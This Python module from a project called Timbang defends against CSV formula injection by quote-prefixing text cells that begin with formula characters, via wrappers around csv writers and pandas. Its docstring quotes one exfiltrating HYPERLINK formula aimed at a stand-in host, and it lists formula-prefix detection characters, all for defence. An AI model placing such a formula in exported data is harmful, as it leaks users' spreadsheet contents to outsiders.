"""Every CSV file Timbang answers or writes goes through here, so that no cell can act as a formula.

A spreadsheet that opens a CSV file runs a cell beginning with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://x?"&A1,"Klik")`` sends the sheet's neighbouring cells to whoever wrote it), and some
also look past a leading tab or carriage return. Model names, prompts, responses, comments and usernames
come from people and models we do not control, so each such text cell gets a single quote in front
(OWASP's "CSV injection" advice); the spreadsheet then shows the text as text. Quoting of commas, quotes
and line breaks stays with the ``csv`` module and pandas, which already quote such cells.

Whether a cell is neutralised is decided by its type, never by its first character alone: numbers we write
as numbers (a negative alpha of -0.12, a margin of -1) stay numbers, because a spreadsheet reads them as
values and never runs them; only text can carry a formula. Parquet, JSON and JSON Lines files keep the raw
text: they are read by programs, not by spreadsheets.

No Django here: ``neutralise_cell`` is pure, and the writers wrap ``csv.writer``, ``csv.DictWriter`` and
``DataFrame.to_csv`` for any stream or path.
"""

from __future__ import annotations

import csv
import numbers
from collections.abc import Iterable, Mapping
from typing import TYPE_CHECKING, Any

# pandas takes long to import: the functions that use it import it, so start-up (URL loading, a
# worker's boot) does not.
if TYPE_CHECKING:
    import pandas as pd


# First characters that make a spreadsheet read a text cell as a formula (tab and carriage return too:
# some spreadsheets skip them before looking for the formula sign).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
QUOTE_PREFIX = "'"


def neutralise_cell(value: Any) -> Any:
    """``value`` as it may go into a CSV cell: text beginning with a formula character gets ``'`` in front.

    ``None``, numbers (Python, NumPy, ``Decimal``; ``bool`` too) and every other value whose text does not
    begin with such a character come back unchanged, so the writer formats them as it always did. A value
    that is neither text nor a number (a lazy translation, a UUID) is judged by the text the writer would
    write for it.
    """
    if value is None or isinstance(value, numbers.Number):
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_PREFIXES):
        return QUOTE_PREFIX + text
    return value


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise_cell(value) for value in row]


def neutralise_mapping(row: Mapping[str, Any]) -> dict[str, Any]:
    """The values of a ``DictWriter`` row neutralised; the keys (field names) stay as they are."""
    return {key: neutralise_cell(value) for key, value in row.items()}


class SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell; ``writerow`` returns what ``csv`` returns
    (the written line when the stream's ``write`` returns it, as for a streamed response)."""

    def __init__(self, stream: Any, dialect: str | type[csv.Dialect] = "excel", **fmtparams: Any) -> None:
        self._writer = csv.writer(stream, dialect, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(neutralise_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        self._writer.writerows(neutralise_row(row) for row in rows)


class SafeDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose header and row values are neutralised (header cells too: a column can be
    named after a person or a model)."""

    def writeheader(self) -> Any:
        return super().writerow({name: neutralise_cell(name) for name in self.fieldnames})

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow(neutralise_mapping(rowdict))

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        super().writerows(neutralise_mapping(row) for row in rowdicts)


def neutralise_frame(frame: pd.DataFrame, *, index: bool = True) -> pd.DataFrame:
    """A copy of ``frame`` with its text cells, column labels and (with ``index``) index labels neutralised.

    Only columns that can hold text (object, string, categorical) are looked at; numeric, boolean and
    datetime columns are written by pandas as numbers and dates and stay as they are.
    """
    import pandas as pd

    out = frame.copy(deep=False)
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object)
        elif not (pd.api.types.is_object_dtype(column.dtype) or pd.api.types.is_string_dtype(column.dtype)):
            continue
        # ``isetitem`` replaces by position, so repeated column names are each handled once.
        out.isetitem(position, _neutralise_column(column))
    out.columns = out.columns.map(neutralise_cell)
    if index:
        out.index = out.index.map(neutralise_cell)
    return out


def _neutralise_column(column: pd.Series) -> pd.Series:
    import pandas as pd

    if not isinstance(column.dtype, pd.StringDtype):
        if pd.api.types.infer_dtype(column, skipna=True) not in ("string", "empty"):
            return column.map(neutralise_cell).astype(object)
        column = column.astype(pd.StringDtype())
    # Every present cell is text: the same rule as ``neutralise_cell``, vectorised, because raw exports
    # write millions of text cells and a Python call per cell would triple the time they take.
    dangerous = column.str.startswith(FORMULA_PREFIXES, na=False).to_numpy(dtype=bool)
    if not dangerous.any():
        return column
    out = column.copy()
    out[dangerous] = QUOTE_PREFIX + column[dangerous]
    return out


def frame_to_csv(frame: pd.DataFrame, target: Any = None, **to_csv_options: Any) -> str | None:
    """``frame.to_csv(target, **to_csv_options)`` with every text cell and label neutralised.

    ``index_label`` (when given as text) is neutralised too; with ``target`` left out the CSV text is
    returned, as pandas does.
    """
    label = to_csv_options.get("index_label")
    if label is not None and not isinstance(label, bool):
        if isinstance(label, str):
            to_csv_options["index_label"] = neutralise_cell(label)
        else:
            to_csv_options["index_label"] = neutralise_row(label)
    written_index = bool(to_csv_options.get("index", True))
    return neutralise_frame(frame, index=written_index).to_csv(target, **to_csv_options)
